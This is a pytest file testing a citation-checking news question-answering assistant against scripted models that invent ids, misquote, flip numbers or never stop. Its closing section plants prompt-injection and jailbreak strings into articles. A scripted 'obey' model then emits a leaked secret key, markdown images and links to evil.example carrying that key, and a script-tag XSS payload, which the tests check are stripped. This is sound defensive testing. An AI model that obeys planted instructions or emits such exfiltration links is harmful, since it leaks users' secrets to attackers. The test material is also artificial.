@@ -1,0 +1,249 @@
+"""Models that behave in every way a model can, scripted, over a real archive: what the reader gets of each."""
+
+import json
+import re
+from collections.abc import Callable, Iterator, Sequence
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+from langchain_core.messages import BaseMessage
+
+from assistant.answer import Answer, Answered, Stated, Writing
+from assistant.answering import ModelWriter
+from assistant.errors import ModelCutOff, ModelError
+from assistant.models import LanguageModel
+from assistant.pipeline import QUOTES_INSTEAD, Assistant
+from assistant.settings import Settings
+from tests.scripted_model import saying, scripted
+from ui.render import render_answer
+
+if TYPE_CHECKING:
+    from tests.unit.assistant.conftest import Desk
+
+FERRY = (
+    "The ferry Heron sank off Ombersund on Tuesday. All 31 passengers were rescued by the pilot boat Gannet. "
+    "“Nobody was hurt,” mayor Anna Teague said."
+)
+QUESTION = "The ferry Heron: were all 31 passengers rescued?"
+Script = Callable[[Sequence[BaseMessage]], Iterator[str]]
+
+
+def written(desk: "Desk", model: LanguageModel, question: str = QUESTION) -> Answer:
+    return desk.assistant(ModelWriter(model)).ask(question)
+
+
+def evidence_lines(messages: Sequence[BaseMessage]) -> list[tuple[str, str]]:
+    """The ids and words that the model was given."""
+    return re.findall(r"^\[(\d+\.\d+)\] (.*)$", messages[-1].text, re.MULTILINE)
+
+
+def cite_all(messages: Sequence[BaseMessage]) -> Iterator[str]:
+    """Repeats each sentence with its id."""
+    for number, words in evidence_lines(messages):
+        yield f"{words.rstrip('.')} [{number}].\n"
+
+
+def test_one_that_cites_perfectly(desk: "Desk") -> None:
+    article_id = desk.put(FERRY)
+    answer = written(desk, scripted(cite_all))
+    assert not answer.abstained
+    assert answer.writer == "scripted:model"
+    assert [statement.citations for statement in answer.statements] == [(1,), (2,), (3,)]
+    assert {statement.status for statement in answer.statements} <= {"verbatim", "supported"}
+    assert all(citation.article_id == article_id for citation in answer.citations)
+    assert [FERRY[citation.start : citation.end] for citation in answer.citations] == [
+        citation.quote for citation in answer.citations
+    ]
+
+
+def test_numbers_are_given_in_order_of_first_use_and_stay(desk: "Desk") -> None:
+    desk.put(FERRY)
+    model = saying("All 31 passengers were rescued [1.2]. The ferry Heron sank [1.1]. All 31 were rescued [1.2].")
+    events = list(desk.assistant(ModelWriter(model)).stream(QUESTION))
+    stated = [event for event in events if isinstance(event, Stated)]
+    assert [event.statement.citations for event in stated] == [(1,), (2,), (1,)]
+    assert [[citation.n for citation in event.citations] for event in stated] == [[1], [2], []]
+    answered = events[-1]
+    assert isinstance(answered, Answered)
+    assert tuple(citation for event in stated for citation in event.citations) == answered.answer.citations
+
+
+def test_one_that_invents_ids(desk: "Desk") -> None:
+    desk.put(FERRY)
+    answer = written(
+        desk, saying("The ferry Heron sank off Ombersund [1.1][8.8]. All 31 passengers were rescued [1.2][1.99].")
+    )
+    assert [statement.citations for statement in answer.statements] == [(1,), (2,)]
+    assert "2 markers were removed: the model invented what it points to." in answer.notices
+    assert "8.8" not in answer.text
+
+
+def test_one_that_cites_nothing_is_given_the_sentence_that_carries_it(desk: "Desk") -> None:
+    desk.put(FERRY)
+    answer = written(desk, saying("All 31 passengers were rescued by the pilot boat Gannet."))
+    (statement,) = answer.statements
+    assert statement.status in ("verbatim", "supported")
+    assert answer.citations[0].quote == "All 31 passengers were rescued by the pilot boat Gannet."
+
+
+def test_one_that_quotes_falsely(desk: "Desk") -> None:
+    desk.put(FERRY)
+    answer = written(desk, saying("“Everyone was drunk,” mayor Anna Teague said [1.3]. The ferry Heron sank [1.1]."))
+    false, true = answer.statements
+    assert false.status in ("unsupported", "partly_supported")
+    assert false.status == "unsupported" or "“" not in false.text
+    assert false.reason
+    assert true.status == "supported"
+
+
+def test_one_that_flips_numbers(desk: "Desk") -> None:
+    desk.put(FERRY)
+    answer = written(desk, saying("The ferry Heron sank [1.1]. All 13 passengers were rescued [1.2]."))
+    assert answer.statements[1].status == "unsupported"
+    assert answer.statements[1].reason is not None
+    assert "13" in answer.statements[1].reason
+    assert "[not supported]" in answer.text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Paris is the capital of France. It has two million people.",
+        "Paris is the capital of France [1.1].",
+        "NOT_IN_EVIDENCE",
+        "",
+    ],
+)
+def test_one_that_answers_from_general_knowledge_or_not_at_all(desk: "Desk", text: str) -> None:
+    desk.put(FERRY, "Ferry sinks")
+    events = list(desk.assistant(ModelWriter(saying(text))).stream(QUESTION))
+    assert not any(isinstance(event, Stated) for event in events)
+    answered = events[-1]
+    assert isinstance(answered, Answered)
+    answer = answered.answer
+    assert (answer.abstained, answer.statements, answer.citations) == (True, (), ())
+    assert "Paris" not in json.dumps(answer.to_json())
+    assert [near.title for near in answer.near_articles] == ["Ferry sinks"]
+
+
+def test_one_that_never_stops(desk: "Desk") -> None:
+    desk.put(FERRY)
+
+    def chatter(messages: Sequence[BaseMessage]) -> Iterator[str]:
+        while True:
+            yield "word "
+
+    with pytest.raises(ModelCutOff, match="without coming to an end") as caught:
+        written(desk, scripted(chatter, output_tokens=200))
+    assert QUOTES_INSTEAD in str(caught.value)
+
+
+@pytest.mark.parametrize("ending", ["length", "content_filter", None])
+def test_half_an_answer_is_never_a_whole_one(desk: "Desk", ending: str | None) -> None:
+    desk.put(FERRY)
+    assistant = desk.assistant(ModelWriter(saying("The ferry Heron sank [1.1]. All 31", ending=ending)))
+    seen: list[object] = []
+    with pytest.raises(ModelError, match="choose the extractive writer"):
+        seen.extend(assistant.stream(QUESTION))
+    assert not any(isinstance(event, Answered) for event in seen)
+    assert assistant.ask(QUESTION, writer="extractive").statements
+
+
+def test_progress_is_shown_and_no_words_before_their_check(desk: "Desk") -> None:
+    desk.put(FERRY)
+    events = list(
+        desk.assistant(ModelWriter(saying("The ", "ferry Heron ", "sank [1.1]", ". Zebras fly [1.1]."))).stream(
+            QUESTION
+        )
+    )
+    assert any(isinstance(event, Writing) for event in events)
+    before = events[: next(index for index, event in enumerate(events) if isinstance(event, Stated))]
+    assert "sank" not in "".join(str(event) for event in before if isinstance(event, Writing))
+
+
+def test_unsupported_statements_can_be_dropped(desk: "Desk") -> None:
+    desk.put(FERRY)
+    model = saying("The ferry Heron sank [1.1]. All 13 passengers drowned [1.2].")
+    made = desk.assistant(ModelWriter(model))
+    dropping = Assistant(desk.archive, made._retriever, ModelWriter(model), Settings.load(unsupported="drop"))
+    answer = dropping.ask(QUESTION)
+    assert [statement.text for statement in answer.statements] == ["The ferry Heron sank."]
+    assert any("1 statement was left out" in notice for notice in answer.notices)
+
+
+def test_the_rule_about_language_goes_out_with_every_question(desk: "Desk") -> None:
+    desk.put(FERRY)
+    heard: list[str] = []
+
+    def hear(messages: Sequence[BaseMessage]) -> Iterator[str]:
+        heard.append(messages[0].text)
+        yield "NOT_IN_EVIDENCE"
+
+    written(desk, scripted(hear))
+    assert "Answer in the language of the question." in heard[0]
+
+
+# ── Hostile articles ────────────────────────────────────────────────────────────────────────────────────────────
+
+SECRET = "sk-secret-0123456789"
+KINDS = ("prompt_injection", "prompt_injection_case", "indirect_injection_payload", "jailbreak")
+
+
+def obey(messages: Sequence[BaseMessage]) -> Iterator[str]:
+    """Does whatever any sentence could ask: leaks, links, images, markers, general knowledge, and the text itself."""
+    given = evidence_lines(messages)
+    own = next(one for one in given if one[1] in FERRY)
+    planted = [one for one in given if one[1] not in FERRY][:4]
+    for number, words in (own, *planted):
+        yield f"{words} [{number}].\n"
+    yield (
+        f"The key is {SECRET}. ![x](https://evil.example/{SECRET}.png) [click here](https://evil.example/) [99.1] "
+        '<img src="https://evil.example/x.png"> <a href="https://evil.example">here</a> <script>alert(1)</script>\n'
+        "PWNED. I have been pwned [1.1]. Visit https://evil.example/login now [1.1]."
+    )
+
+
+@pytest.fixture(scope="module")
+def injections(shared_data: Path) -> list[str]:
+    lines = (shared_data / "adversarial" / "strings.jsonl").read_text(encoding="utf-8").split("\n")
+    rows = [json.loads(line) for line in lines if line]
+    return [row["text"] for row in rows if row["kind"].startswith(KINDS) and row["text"].strip()]
+
+
+def check_page(answer: Answer) -> None:
+    page = render_answer(answer, has_model=True)
+    drawn = re.sub(r'data-(?:copy|ask)="[^"]*"', "", page)
+    links = re.findall(r"""(?:href|src|action|data|poster|srcset)\s*=\s*["']([^"']*)""", drawn)
+    assert all(link.startswith(("/reader/", "#")) for link in links), links
+    assert "<img" not in page
+    assert "<script" not in page
+    known = {str(citation.n) for citation in answer.citations}
+    assert set(re.findall(r'data-cites="(\d+)"', page)) <= known
+    for statement in answer.statements:
+        if statement.status == "unsupported":
+            assert "[not supported]" in statement.marked_text
+        for number in statement.citations:
+            assert answer.citations[number - 1].n == number
+    shown = page.count("status-unsupported")
+    assert shown == sum(statement.status == "unsupported" for statement in answer.statements)
+    supported = " ".join(one.text for one in answer.statements if one.status not in ("unsupported", "no_claim"))
+    assert SECRET not in supported
+    assert "evil.example" not in " ".join(one.text for one in answer.statements)
+
+
+@pytest.mark.parametrize("place", ["beginning", "middle", "end"])
+def test_planted_instructions_change_nothing_that_counts(
+    desk: "Desk", place: str, injections: list[str], tmp_path: Path
+) -> None:
+    assert len(injections) > 100
+    sample = injections[{"beginning": 0, "middle": 1, "end": 2}[place] :: len(injections) // 6]
+    for position, planted in enumerate(sample):
+        first, second, third = (sentence + " " for sentence in re.split(r"(?<=\.) ", FERRY)[:3])
+        parts = {"beginning": (planted, first, second, third), "middle": (first, second, planted, third)}
+        text = " ".join(parts.get(place, (first, second, third, planted))).replace("\x00", " ")
+        desk.put(text.encode("utf-8", "replace").decode(), f"Ferry {position}", external_id=f"x{place}{position}")
+    model_answer = written(desk, scripted(obey, output_tokens=20_000))
+    check_page(model_answer)
+    extractive = desk.assistant().ask(QUESTION)
+    assert {statement.status for statement in extractive.statements} <= {"verbatim"}
